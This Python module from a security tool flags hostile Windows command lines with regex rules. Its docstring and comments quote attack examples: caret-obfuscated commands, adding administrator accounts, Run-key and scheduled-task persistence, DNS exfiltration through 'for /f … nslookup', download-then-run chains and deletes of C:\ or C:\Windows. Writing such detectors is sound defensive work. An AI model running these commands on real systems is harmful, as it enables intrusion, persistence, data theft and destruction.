"""Windows command lines from PayloadsAllTheThings' command-injection and LOLBAS recipes that the POSIX-minded rules miss.

`w^h^o^a^m^i` (cmd.exe drops carets: a program name split to dodge filters), `net user x pw /add` inside
`cmd /c "…"`, `wmic process call create`, a scheduled task or a Run key (persistence), `for /f %i in
('whoami') do nslookup %i.<domain>` (a command's output sent as DNS names), `msiexec /i http://…`,
a script host fed from a UNC share, and the download-then-run pair (`curl … -o %TEMP%\\p.exe &&
%TEMP%\\p.exe`, `wget -O /tmp/x && chmod +x /tmp/x && /tmp/x`). Each rule is a regex over the line,
behind one gate search; ordinary admin commands (`schtasks /query`, `reg query`, `cmd /c dir`) stay allowed.
"""

from __future__ import annotations

from aegis_mcp.engine import regex

Finding = tuple[str, int, str]

GATE_PATTERN = (
    r"(?i)\w\^\w\^|\bnet1?(?:\.exe)?\s+(?:user|localgroup)\b|\bwmic\b|\bschtasks\b|\breg(?:\.exe)?\s+add\b|\bsc(?:\.exe)?\s+(?:create|config)\b"
    r"|\bfor\s+/f\b|\bmsiexec\b|\b(?:cscript|wscript|mshta|rundll32|regsvr32)\b|\b(?:curl|wget|iwr|invoke-webrequest|certutil|bitsadmin)\b"
    r"|\b(?:del|erase|rd|rmdir|remove-item|ri)\b"
)
_GATE = regex.compile(GATE_PATTERN)
_RULES: tuple[tuple[str, int, str, "regex.FastRegexp"], ...] = (  # type: ignore[name-defined]
    ("obfuscated_command", 2, "a program name split by carets (cmd.exe drops them)", regex.compile(r"(?:^|[\s;&|(\"'])(?:\w\^){2,}\w")),
    ("privilege", 3, "net user/localgroup adds an account or an administrator", regex.compile(
        r"(?i)\bnet1?(?:\.exe)?\s+(?:user|localgroup)\b[^&|\n]{0,200}\s/add\b")),
    ("code_execution", 2, "wmic process call create runs a command", regex.compile(r"(?i)\bwmic\b[^&|\n]{0,100}\bprocess\s+call\s+create\b")),
    ("persistence", 2, "a scheduled task created", regex.compile(r"(?i)\bschtasks(?:\.exe)?\s+/create\b")),
    ("persistence", 3, "a program added to a Run key (starts at every logon)", regex.compile(
        r"(?i)\breg(?:\.exe)?\s+add\s+[\"']?(?:hkcu|hklm|hkey_current_user|hkey_local_machine)\\software\\(?:wow6432node\\)?microsoft\\windows\\currentversion\\run")),
    ("persistence", 2, "a Windows service created or re-pointed", regex.compile(r"(?i)\bsc(?:\.exe)?\s+(?:create|config)\s+\S+\s+binpath\s*=")),
    ("exfiltration", 3, "a command's output sent out as DNS names or requests", regex.compile(
        r"(?i)\bfor\s+/f\b[^\n]{0,100}\bin\s*\(\s*'[^']{1,100}'\s*\)\s*do\s+(?:nslookup|ping|curl|certutil|powershell|wget)\b")),
    ("remote_install", 3, "msiexec installs a package straight from a URL", regex.compile(r"(?i)\bmsiexec(?:\.exe)?\b[^\n]{0,100}\s/(?:i|package)\s+[\"']?https?://")),
    ("remote_script", 3, "a script host runs code from a remote share or URL", regex.compile(
        r"(?i)\b(?:cscript|wscript|mshta|rundll32|regsvr32)(?:\.exe)?\b[^\n]{0,200}(?:\\\\\d{1,3}(?:\.\d{1,3}){3}\\|\\\\[\w.-]+\\[\w$.-]+\\|https?://)")),
)
# `del /f /s /q C:\*`, `rd /s /q C:\Windows`, `Remove-Item -Recurse C:\Users`: a delete whose target is a
# drive root or a system folder (with or without a wildcard), the Windows `rm -rf /`.
_WIN_DELETE = regex.compile(
    r"(?i)(?:^|[\s;&|(\"'])(?:del|erase|rd|rmdir|remove-item|ri)(?:\.exe)?\s(?:[^&|\n]{0,200}?[\s\"'])?"
    r"[a-z]:(?:[\\/]?(?:\*(?:\.\*)?)?|[\\/](?:windows|users|program files(?: \(x86\))?|programdata)"
    r"(?:[\\/](?:system32|\*(?:\.\*)?))?(?:[\\/]\*(?:\.\*)?)?[\\/]?)[\"']?(?:\s|$|[&|;)])"
)
# a fetcher writing a file: its output path (-o/-O/--output/-OutFile, certutil's last argument)
_DOWNLOAD = regex.compile(r"(?i)\b(?:curl|wget|iwr|invoke-webrequest|certutil|bitsadmin)\b[^&|;\n]{0,300}?(?:\s-o|\s-O|\s--output(?:-document)?[= ]|"
                          r"\s-outfile|\s-f\s+\S+|\s/transfer\s+\S+\s+\S+)\s*[\"']?([^\s\"'&|;]{3,200})")


_PLAIN_URL = regex.compile(r"(?i)\bhttp://|://\d{1,3}(?:\.\d{1,3}){3}")


def _download_then_run(line: str) -> list[Finding]:
    """`curl URL -o P && P` / `wget -O P; chmod +x P; P`: a fetched file executed."""
    for n, m in enumerate(_DOWNLOAD.finditer(line[:8192])):
        if n >= 16:
            break  # (bounded work: a hostile line repeats the fetch thousands of times)
        path = m.group(1)
        rest = line[m.end() : m.end() + 2048]
        for sep in ("&&", ";", "&", "|", "\n"):
            rest = rest.replace(sep, "\n")
        for cmd in rest.split("\n"):
            words = cmd.strip().split()
            if not words:
                continue
            prog = words[0].strip("\"'")
            if prog in ("start", "call", "sh", "bash", "powershell", "pwsh", "python", "python3", "./") and len(words) > 1:
                prog = words[1].strip("\"'")
            if prog == path or prog == "./" + path.lstrip("./") and path.lstrip("./"):
                # like `curl … | sh`: an https installer is held for a human, plain http or a bare IP blocks
                sev = 3 if _PLAIN_URL.search(line[m.start():m.end()]) else 2
                return [("download_execute", sev, f"downloads {path[:60]} and runs it")]
    return []


def windows_findings(line: str) -> list[Finding]:
    if len(line) > 65536 or _GATE.search(line) is None:
        return []
    out = [(rule, sev, detail) for rule, sev, detail, rx in _RULES if rx.search(line)]
    if _WIN_DELETE.search(line) is not None:
        out.append(("destructive", 3, "deletes a drive root or a Windows system folder"))
    out.extend(_download_then_run(line))
    return out
